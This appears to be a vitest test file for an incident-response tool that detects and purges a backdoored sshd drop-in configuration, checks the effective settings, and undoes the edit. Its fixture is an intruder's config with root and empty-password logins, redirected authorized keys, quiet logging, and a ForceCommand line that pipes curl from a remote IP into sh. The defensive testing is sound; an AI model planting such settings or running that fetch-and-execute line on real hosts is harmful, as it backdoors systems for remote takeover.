import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { purgePersistence } from '../../src/actions/purge-persistence.ts';
import { resetKeys } from '../../src/actions/reset-keys.ts';
import type { Finding } from '../../src/findings/finding.ts';
import { removalText } from '../../src/findings/removal.ts';
import type { ScanOutcome } from '../../src/findings/scan.ts';
import { parseAuthorizedKey } from '../../src/host/scan/authorized-key.ts';
import { makeTree, publicKey, scanTree } from '../host/scan/tree.ts';
import { type Driver, openDriver } from '../support/driver.ts';
import { type Namespace, openNamespace } from '../support/namespace.ts';
import { planFacts } from '../support/plan-facts.ts';
import { PRIVATE_ETC } from '../support/private-etc.ts';

const SCAN = fileURLToPath(new URL('../host/scan/fixtures/scan-here.ts', import.meta.url));
const KEY = publicKey('k');
const MAIN = '/etc/ssh/sshd_config';
const DROP_IN = '/etc/ssh/sshd_config.d/00-cloud.conf';
/** What an intruder puts in the way: read first, so that what stands below does not hold. */
const BAD = `PermitRootLogin yes
PermitEmptyPasswords yes
AuthorizedKeysFile /var/tmp/.k/keys
AuthorizedKeysCommand /var/tmp/.k/who %u
AuthorizedKeysCommandUser root
LogLevel QUIET
Match User alice
	ForceCommand /var/tmp/.k/sh -c "curl -fsSL http://203.0.113.20/i.sh | sh"
`;
const GOOD = `Include /etc/ssh/sshd_config.d/*.conf
Port 2223
ListenAddress 127.0.0.1
PidFile /run/sshd.pid
UsePAM no
PermitRootLogin yes
PermitEmptyPasswords no
Match User bob
	ForceCommand internal-sftp
`;
const SETUP = `${PRIVATE_ETC}
mkdir -p /etc/ssh/sshd_config.d /run/sshd /var/tmp/.k
echo 'sshd:x:100:65534::/run/sshd:/usr/sbin/nologin' >>/etc/passwd
ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key
printf '#!/bin/sh\\nexec true\\n' >/var/tmp/.k/who; cp /var/tmp/.k/who /var/tmp/.k/sh; chmod 755 /var/tmp/.k/*; : >/var/tmp/.k/keys
cat >${DROP_IN} <<'END'
${BAD}END
cat >${MAIN} <<'END'
${GOOD}END
chmod 600 ${DROP_IN}; touch -d 2024-02-03T04:05:06.789Z ${DROP_IN} ${MAIN}
/usr/sbin/sshd
until [ -s /run/sshd.pid ]; do sleep 0.05; done`;
const STATE = `for file in ${MAIN} ${DROP_IN}; do cat $file; stat -c '%a %U:%G %y %i' $file; done`;

let space: Namespace;
let host: Driver;
beforeAll(async () => {
  space = await openNamespace(SETUP);
  host = openDriver(space);
}, 120_000);
afterAll(async () => {
  space?.shell('kill "$(cat /run/sshd.pid)" || true');
  await host?.kill();
  await space?.end();
});

const scan = (): ScanOutcome => JSON.parse(space.run([process.execPath, SCAN, 'sshd,dropped-files']));
const isLine = ({ subject }: Finding) => subject.kind === 'file-line' && subject.role === 'sshd-line';
const bad = () => scan().findings.filter((one) => isLine(one) && /malicious|suspicious/.test(one.verdict));
/** What holds, as sshd itself says; for an account with its Match blocks. */
const holds = (account: string): string =>
  space
    .shell(
      `sshd -T -C user=${account},host=localhost,addr=127.0.0.1 | grep -E '^(permitrootlogin|permitempty|authorizedkeys|loglevel|forcecommand)'`,
    )
    .trim();

test('what opens sshd is set right line by line, checked and read by it; undo gives the files back bit for bit', async () => {
  const before = space.shell(STATE);
  const open = holds('alice');
  expect(open).toContain('permitemptypasswords yes');
  const findings = scan().findings.filter((one) => purgePersistence.concerns(one));
  // What only opens a door that some want open is chosen by a person.
  const chosen = findings.filter(
    ({ subject }) =>
      subject.kind === 'file-line' && subject.file.path === DROP_IN && subject.details.isEffective === 'yes',
  );
  expect(
    chosen.map(({ subject }) => (subject.kind === 'file-line' ? subject.details.keyword : '')).sort(),
  ).toEqual([
    'authorizedkeyscommand',
    'authorizedkeysfile',
    'forcecommand',
    'loglevel',
    'permitemptypasswords',
    'permitrootlogin',
  ]);
  const { operations } = purgePersistence.plan({
    ...{ chosen, findings, parameters: {}, command: null },
    facts: planFacts(),
  });
  expect(operations.map(({ target }) => target.kind)).toEqual(['edit-file']);
  // What the purge was not asked to do, the step for the keys offers again, done alike.
  expect(chosen.every((one) => resetKeys.concerns(one))).toBe(true);
  const again = resetKeys.plan({
    ...{ chosen, findings, parameters: {}, command: null },
    facts: planFacts(),
  });
  expect(again.operations).toEqual(operations);
  expect(again.remarks.join()).toContain('try one from a second terminal');
  const [planned] = operations;
  if (planned === undefined) throw new Error('Nothing is planned.');
  const listening = space.shell('cat /run/sshd.pid').trim();
  const receipt = await host.ready(planned.target);
  const outcome = await host.perform(planned.target, receipt);
  expect(outcome).toMatchObject({ status: 'done' });
  expect(outcome.message).toContain('goes by the file as it is now');
  expect(await host.verify(planned.target, outcome.receipt)).toMatchObject({ status: 'holds' });
  // Told, not started anew: who is in stays in.
  await expect.poll(() => space.shell('cat /run/sshd.pid').trim()).toBe(listening);
  const closed = holds('alice');
  // The second line of the same kind, which the first had hidden, does not open it again.
  expect(closed).toContain('permitrootlogin without-password');
  expect(closed).toContain('permitemptypasswords no');
  expect(closed).toContain('authorizedkeysfile .ssh/authorized_keys .ssh/authorized_keys2');
  expect(closed).toContain('loglevel INFO');
  expect(closed).not.toMatch(/authorizedkeyscommand \/|forcecommand \//);
  // What somebody else is held to stays.
  expect(holds('bob')).toContain('forcecommand internal-sftp');
  expect(bad()).toEqual([]);

  expect(await host.undo(planned.target, outcome.receipt)).toMatchObject({ status: 'done' });
  expect(space.shell(STATE)).toBe(before);
  expect(holds('alice')).toBe(open);
});

test.for([
  ['root by a password', 'root', null, ['PermitRootLogin yes']],
  ['root by a key in the usual place', 'root', 'usual', []],
  ['by a key that is not there', 'alice', 'SHA256:elsewhere', ['AuthorizedKeysFile /srv/keys/%u']],
  ['not known how, with no key in the usual place', 'bob', null, ['AuthorizedKeysFile /srv/keys/%u']],
] as const)(
  'what could cut off the responder, in as %s, is theirs to do',
  async ([, account, key, theirs]) => {
    const root = makeTree({
      [MAIN]: 'PermitRootLogin yes\nPermitEmptyPasswords yes\nAuthorizedKeysFile /srv/keys/%u\n',
      '/etc/passwd': 'root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n',
      '/root/.ssh/authorized_keys': `${KEY}\n`,
    });
    const responder = {
      ...{ peerAddress: '198.51.100.4', peerPort: 5, localPort: 22, uid: 0, protectedPids: [] },
      ...{ account, keyFingerprint: key === 'usual' ? (parseAuthorizedKey(KEY)?.fingerprint ?? '') : key },
    };
    const { findings } = await scanTree(root, { responder }, ['sshd']);
    const lines = findings.filter(isLine);
    expect(lines).toHaveLength(3);
    const kept = lines.filter((one) => !purgePersistence.concerns(one));
    expect(lines.filter((one) => !resetKeys.concerns(one))).toEqual(kept);
    expect(kept.map(({ subject }) => (subject.kind === 'file-line' ? subject.line.text : ''))).toEqual(
      theirs,
    );
    for (const { subject } of kept)
      expect(removalText(subject)).toContain('by hand, with a second session open');
  },
);
